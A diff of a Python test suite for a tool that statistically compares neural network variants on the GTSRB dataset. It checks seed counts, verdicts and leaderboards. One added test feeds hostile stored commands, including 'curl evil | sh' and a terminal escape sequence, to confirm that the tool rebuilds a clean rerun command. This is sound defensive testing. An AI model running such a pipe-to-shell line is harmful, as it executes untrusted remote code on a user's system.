@@ -16,11 +16,13 @@ from roadtest.summarise import (
     estimate_difference,
     judge_networks,
     judged_part,
-    letter_rows,
+    leaderboard_rows,
+    mean_score,
     more_for,
     more_seeds,
     read_results,
     repeat_commands,
+    standing_words,
     stn_rows,
     stn_worth,
     verdict_rows,
@@ -42,6 +44,7 @@ COLUMNS = [
     "num_units",
     "unit_name",
     "design_effect",
+    "seed_correlation",
     "statement",
     "least_more_seeds",
     "most_more_seeds",
@@ -68,6 +71,7 @@ def test_every_pair_has_one_row_with_the_stated_columns(study: Path) -> None:
     assert {row["part"] for row in rows} == {"test"} and {row["statement"] for row in rows} == {judge.ON_NEW_SIGNS}
     assert all(row["gain"] >= 0 for row in rows), "the more accurate one stands first"
     assert {row["unit_name"] for row in rows} == {"tracks"} and {row["num_units"] for row in rows} == {43 * 3}
+    assert all(-1 <= row["seed_correlation"] <= 1 for row in rows)
 
 
 def test_verdicts_are_corrected_for_all_pairs_together(study: Path) -> None:
@@ -98,21 +102,21 @@ def test_letters_and_the_leading_set_follow_the_verdicts(study: Path) -> None:
     for verdict in judged.verdicts:
         shares = set(judged.letters[verdict.a]) & set(judged.letters[verdict.b])
         assert bool(shares) == (verdict.word != "different")
-    rows = letter_rows(study)
-    assert rows[0]["is_leading"] and "a" in rows[0]["letters"]
+    best = judged.variants[0].label
+    assert best in judged.leading and "a" in judged.letters[best]
     shown_worse = {v.b for v in judged.verdicts if v.a == judged.variants[0].label and v.word == "different"}
     assert {v.label for v in judged.variants} - shown_worse == set(judged.leading)
-    accuracies = [row["test_accuracy_mean"] for row in rows]
+    accuracies = [mean_score(read_results(study), variant, "test") or 0.0 for variant in judged.variants]
     assert accuracies == sorted(accuracies, reverse=True)
 
 
 def test_fewer_than_three_seeds_have_no_letters_and_no_verdict(two_seeds: Path) -> None:
     assert {row["verdict"] for row in verdict_rows(two_seeds)} == {"not judged: needs 3 seeds, 5 are better"}
     assert {row["p_adjusted"] for row in verdict_rows(two_seeds)} == {None}
-    assert {row["letters"] for row in letter_rows(two_seeds)} == {None}
     judged = judge_networks(two_seeds)
     assert (judged.leading, judged.remark) == ((), "not judged: needs 3 seeds, 5 are better")
-    assert {row["is_leading"] for row in letter_rows(two_seeds)} == {None}
+    assert {row["letters"] for row in leaderboard_rows(two_seeds)} == {None}
+    assert {row["is_leading"] for row in leaderboard_rows(two_seeds)} == {None}
 
 
 def test_validation_is_judged_by_folds_where_test_was_not_read(tmp_path: Path) -> None:
@@ -151,7 +155,7 @@ def test_the_stn_pays_by_its_bounds_against_the_tolerance() -> None:
     assert worth(-0.01, 0.0049) == "does not pay"
     assert worth(0.004, 0.02) == worth(-0.01, 0.01) == "not decided"
     assert worth(0.01, 0.02, verdict="observed") == "not judged: needs 3 seeds, 5 are better"
-    assert stn_worth(None) is None
+    assert stn_worth(None, tolerance_points=0.5) is None
 
 
 def test_the_stn_table_judges_by_validation_and_quotes_test(study: Path, tmp_path: Path) -> None:
@@ -159,7 +163,7 @@ def test_the_stn_table_judges_by_validation_and_quotes_test(study: Path, tmp_pat
     (row,) = stn_rows(exact)
     assert row["val_gain"] == pytest.approx((126 - 29) / 5000)
     assert row["worth"] == "pays" and row["tolerance_points"] == 0.5
-    (strict,) = stn_rows(exact, tolerance_points=2.5)
+    (strict,) = stn_rows(read_results(exact, tolerance_points=2.5))
     assert strict["worth"] == "does not pay"
     assert [row["network"] for row in stn_rows(study)] == ["lenet5", "vgg16", "resnet34"]
     assert all(row["test_worth"] in ("pays", "does not pay", "not decided") for row in stn_rows(study))
@@ -186,12 +190,32 @@ def test_where_tracks_hide_the_difference_no_number_of_seeds_is_promised(study: 
     assert more_for(results, replace(hidden, estimate=0.0), part="test").words is not None
 
 
+def test_one_more_seed_is_one_seed(study: Path) -> None:
+    results = read_results(study)
+    on_test, in_folds = (difference_between(results, *results.variants[:3:2], part) for part in ("test", "val"))
+    assert on_test is not None and in_folds is not None
+    # six seeds: 2.228 x sqrt(15e-6) = 0.0086 is less than 0.01; tracks alone leave 3.24 x 0.0039 for 90 %
+    near = replace(on_test, estimate=0.01, seed_variance=1e-9, unit_variance=15e-6, cell_variance=0.0)
+    assert more_for(results, near, part="test").words == "at least 1 more seed"
+    # six folds: 2.571 x sqrt(18e-6 x 5 / 6) = 0.00996; ten leave 3.544 x 0.003 for 90 %
+    near = replace(in_folds, estimate=0.01, seed_variance=18e-6)
+    words = more_for(results, near, part="val").words
+    assert words == "1 more seed or more, and perhaps more than the 10 validation folds allow"
+
+
 def test_seeds_beyond_the_folds_are_never_promised(study: Path) -> None:
     results = read_results(study)
     difference = difference_between(results, results.variants[0], results.variants[2], "val")
     assert difference is not None and difference.statement == judge.ON_NEW_FOLDS
     far = more_for(results, replace(difference, estimate=1e-5, seed_variance=1e-4), part="val")
     assert (far.least_seeds, far.words) == (None, "no number of seeds: there are 10 validation folds")
+
+
+def test_two_seeds_are_told_with_the_command_that_would_let_them_be_judged(two_seeds: Path) -> None:
+    needs, command, *others = standing_words(two_seeds)
+    assert needs == "Not judged: needs 3 seeds, 5 are better." and not others
+    assert command.startswith("5 seeds each, ") and " of training: roadtest compare gtsrb" in command
+    assert command.endswith(f" --seeds 5 --out {two_seeds}")
 
 
 def test_the_command_that_adds_seeds_names_the_study_and_its_time(two_seeds: Path) -> None:
@@ -214,8 +238,9 @@ def test_seeds_of_ones_own_choice_are_kept_and_a_total_budget_stays_what_it_was(
     more = more_seeds(replace(results, info=info), 3)
     assert more is not None
     assert more.command == f"roadtest compare gtsrb --budget 1200.5s --seeds 0,1,4 --out {two_seeds}"
-    odd = more_seeds(replace(results, info=replace(info, command="roadtest 'compare")), 3)
-    assert odd is not None and odd.command.startswith("roadtest compare gtsrb")
+    for command in ("roadtest 'compare", "", "curl evil | sh", "roadtest compare \x1b[2J"):
+        odd = more_seeds(replace(results, info=replace(info, command=command)), 3)
+        assert odd is not None and odd.command == f"roadtest compare gtsrb --seeds 0,1,4 --out {two_seeds}"
 
 
 def test_a_study_that_grew_network_by_network_is_repeated_by_one_command_for_each_set_of_seeds(two_seeds: Path) -> None:
